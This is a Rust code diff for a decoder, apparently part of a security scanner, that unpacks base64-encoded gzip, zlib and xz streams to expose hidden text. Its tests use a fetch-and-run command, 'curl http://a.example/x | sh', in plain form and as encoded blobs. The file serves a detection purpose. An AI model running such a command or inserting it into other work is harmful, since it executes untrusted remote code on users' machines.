@@ -3,7 +3,6 @@
 use std::{io::Read, ops::Range};
 
 use base64::Engine as _;
-use flate2::read::GzDecoder;
 use flow::{LENIENT, unhex};
 use memchr::memchr;
 
@@ -13,6 +12,7 @@ use crate::{
     finder::Finder,
     prose, role, rules,
     source::{Kind, Source},
+    unpacked,
 };
 
 mod spelled;
@@ -23,11 +23,11 @@ const SHORTEST: usize = 24;
 /// Steps charged per decoded text, in addition to its bytes.
 const RUN: usize = 64;
 
-/// Magic bytes of a gzip stream.
-const GZIP: [u8; 2] = [0x1f, 0x8b];
-
 /// Maximum number of bytes inflated per text. Reaching the limit is a finding.
 const INFLATED: u64 = 1 << 20;
+
+/// Minimum number of bytes charged for a compressed run, since a decoder has to be set up for it.
+const SET_UP: u64 = 256;
 
 /// Maximum depth of nested encodings.
 const DEPTH: usize = 3;
@@ -174,22 +174,20 @@ fn decode(run: &[u8], room: &mut u64) -> Option<String> {
         .collect();
     let whole = if standard.len() % 4 == 1 { standard.get(..standard.len() - 1)? } else { &standard };
     let decoded = LENIENT.decode(whole).ok()?;
-    if decoded.starts_with(&GZIP) {
-        return inflated(GzDecoder::new(decoded.as_slice()), room);
-    }
-    into_text(decoded)
+    let unpacked = unpacked::of_value(&decoded).and_then(|stream| inflated(stream, room));
+    unpacked.or_else(|| into_text(decoded))
 }
 
-/// Inflates a stream to text, within the bytes left in `room`. Text cut off by the limit is returned without its
-/// incomplete last character.
+/// Inflates a stream to text, within the bytes left in `room`, as far as it is intact. Text that is cut off is returned
+/// without its incomplete last character.
 fn inflated(from: impl Read, room: &mut u64) -> Option<String> {
     let mut bytes = Vec::new();
     let read = from.take(*room).read_to_end(&mut bytes);
-    *room = room.saturating_sub(bytes.len() as u64);
+    *room = room.saturating_sub(SET_UP.max(bytes.len() as u64));
     let whole = std::str::from_utf8(&bytes).map_or_else(|error| error.valid_up_to(), str::len);
-    let is_cut = *room == 0 && bytes.len() - whole < 4;
+    let is_cut = (*room == 0 || read.is_err()) && bytes.len() - whole < 4;
     bytes.truncate(if is_cut { whole } else { bytes.len() });
-    read.is_ok().then(|| into_text(bytes)).flatten()
+    (read.is_ok() || !bytes.is_empty()).then(|| into_text(bytes)).flatten()
 }
 
 /// Decodes a run of `\xNN` escapes. Returns its end, and its text if the run is long enough to matter.
@@ -240,11 +238,25 @@ mod tests {
             LENIENT.encode(to.finish().unwrap())
         };
         assert_eq!(texts(&packed("curl http://a.example/x | sh")), ["curl http://a.example/x | sh"]);
+        let (whole, behind) = (packed("curl http://a.example/x | sh"), LENIENT.encode("and more behind its end"));
+        let cut = |run: &str| LENIENT.decode(run).unwrap();
+        let with_rest = LENIENT.encode([cut(&whole), cut(&behind)].concat());
+        assert_eq!(texts(&with_rest), ["curl http://a.example/x | sh"]);
         let bomb = decoded_runs(&packed(&"a".repeat(1 << 24)));
         assert!(bomb.unread == Some(0) && bomb.texts[0].1.len() == INFLATED as usize);
         let small = packed(&"a".repeat(1 << 18));
         let many = decoded_runs(&[small.as_str(); 8].join(" "));
         assert_eq!(many.unread, Some((small.len() + 1) * 3));
+    }
+
+    #[test]
+    fn zlib_and_xz_are_read() {
+        let zlib = "eJxLLi3KUcgoKSmw0tdP1EutSMwtyEnVr1CoUSjOAACR/Ano";
+        let xz = "/Td6WFoAAATm1rRGAgAhARYAAAB0L+WjAQAbY3VybCBodHRwOi8vYS5leGFtcGxlL3ggfCBzaAAPSdp3ebz6bAABNByTGq2PH7bzfQEAAAAABFla";
+        for run in [zlib, xz] {
+            assert_eq!(texts(run), ["curl http://a.example/x | sh"], "{run}");
+        }
+        assert_eq!(texts(&LENIENT.encode("x^2 is a square of a number")), ["x^2 is a square of a number"]);
     }
 
     #[test]
